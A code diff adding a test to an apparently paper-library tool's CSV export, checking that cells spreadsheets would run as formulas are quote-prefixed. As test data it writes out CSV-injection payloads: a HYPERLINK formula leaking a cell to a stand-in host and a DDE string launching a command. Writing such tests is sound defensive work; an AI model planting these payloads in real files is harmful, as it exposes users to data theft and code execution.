@@ -460,3 +460,29 @@ def test_export_falls_back_to_the_snapshot_when_the_digest_is_gone():
         assert "[CLS\\] tokens" in md
         lib.set_note("eeeeeeeeeeee", "a note on a paper never seen")
         assert "(paper eeeeeeeeeeee)" in export(lib, "notes", "md", catalog=Catalog())
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised():
+    # OWASP "CSV injection": a cell starting with = + - @ (or tab / carriage
+    # return) is a formula in Excel, LibreOffice and Google Sheets.
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    with fresh_library() as lib:
+        p = Paper(id="cccccccccccc", title=hostile, abstract="", authors=("@SUM(1+1)*cmd|' /C calc'!A0",))
+        lib.set_bookmark(p.id, True, paper=p)
+        lib.add_tags(p.id, ["-2+3"])
+        lib.set_note(p.id, "+1 this paper\nsecond line")
+        q = Paper(id="dddddddddddd", title="Plain", abstract="", authors=("\tTabbed",))
+        lib.set_bookmark(q.id, True, paper=q)
+        lib.set_note(q.id, "\rreturn first")
+        rows = {r["id"]: r for r in csv.DictReader(io.StringIO(export(lib, "all", "csv")))}
+    row = rows["cccccccccccc"]
+    assert row["title"] == "'" + hostile
+    assert row["authors"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["tags"] == "'-2+3"
+    assert row["note"] == "'+1 this paper\nsecond line"
+    from tui.core.export import csv_cell
+    assert csv_cell("\tTabbed") == "'\tTabbed" and csv_cell("\rreturn") == "'\rreturn"
+    assert rows["dddddddddddd"]["title"] == "Plain"
+    for r in rows.values():  # nothing else is touched
+        assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in r.values())
+        assert r["bookmarked_at"][:1].isdigit()
